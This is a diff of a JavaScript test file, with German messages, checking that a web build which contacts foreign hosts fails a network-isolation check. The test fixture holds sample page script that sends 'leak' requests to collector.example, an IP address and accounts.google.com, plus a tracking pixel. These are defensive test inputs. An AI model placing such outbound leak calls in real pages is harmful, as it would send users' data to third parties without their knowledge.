@@ -32,24 +32,28 @@ test('eine Seite, die fremde Hosts anfragt, lässt die Prüfung scheitern', asyn
   const root = await brokenDist(t, `
     fetch('http://collector.example/leak?name=x').catch(() => {});
     new Image().src = 'https://cdn.example/pixel.gif';
+    fetch('http://192.0.2.7/ip-literal').catch(() => {});
+    fetch('https://accounts.google.com/page-leak').catch(() => {});
     fetch('./nicht-im-build.json').catch(() => {});
   `);
   const session = await openApp({ root });
   t.after(() => session.close());
   await waitForApp(session);
-  await until(() => foreignRequests(session).length >= 5);
+  const seen = (host) => session.server.requests.some((r) => r.host === host);
+  await until(() => seen('collector.example') && seen('cdn.example:443') && seen('192.0.2.7')
+    && session.browserRequests.some((u) => u.includes('page-leak')));
 
-  // The resolver rule really routed the foreign host to our server, which recorded it.
-  assert.ok(
-    session.server.requests.some((r) => r.host === 'collector.example' && r.url.startsWith('/leak')),
-    'Der Testserver hat die Anfrage an collector.example nicht gesehen',
-  );
-  // The TLS handshake for https://cdn.example arrived as a non-HTTP connection.
-  assert.ok(session.server.requests.some((r) => r.host === '(keine HTTP-Verbindung)'));
+  // The server saw every attempt, with its host: plain http, https (CONNECT) and an IP literal.
+  assert.ok(session.server.requests.some((r) => r.host === 'collector.example' && r.path === '/leak?name=x'));
+  assert.ok(seen('cdn.example:443'), 'https-Versuch nicht gesehen');
+  assert.ok(seen('192.0.2.7'), 'Anfrage an eine IP-Adresse nicht gesehen');
   assert.throws(() => assertNoForeignRequests(session), (err) => {
-    assert.match(err.message, /collector\.example\/leak/);
-    assert.match(err.message, /cdn\.example\/pixel\.gif/);
-    assert.match(err.message, /nicht-im-build\.json/);
+    assert.match(err.message, /Server: GET collector\.example\/leak/);
+    assert.match(err.message, /Browser: https:\/\/cdn\.example\/pixel\.gif/);
+    assert.match(err.message, /192\.0\.2\.7\/ip-literal/);
+    // A page request to a host whose browser-internal traffic is ignored is still caught.
+    assert.match(err.message, /Browser: https:\/\/accounts\.google\.com\/page-leak/);
+    assert.match(err.message, /Server: GET 127\.0\.0\.1:\d+\/nicht-im-build\.json/);
     return true;
   });
 });
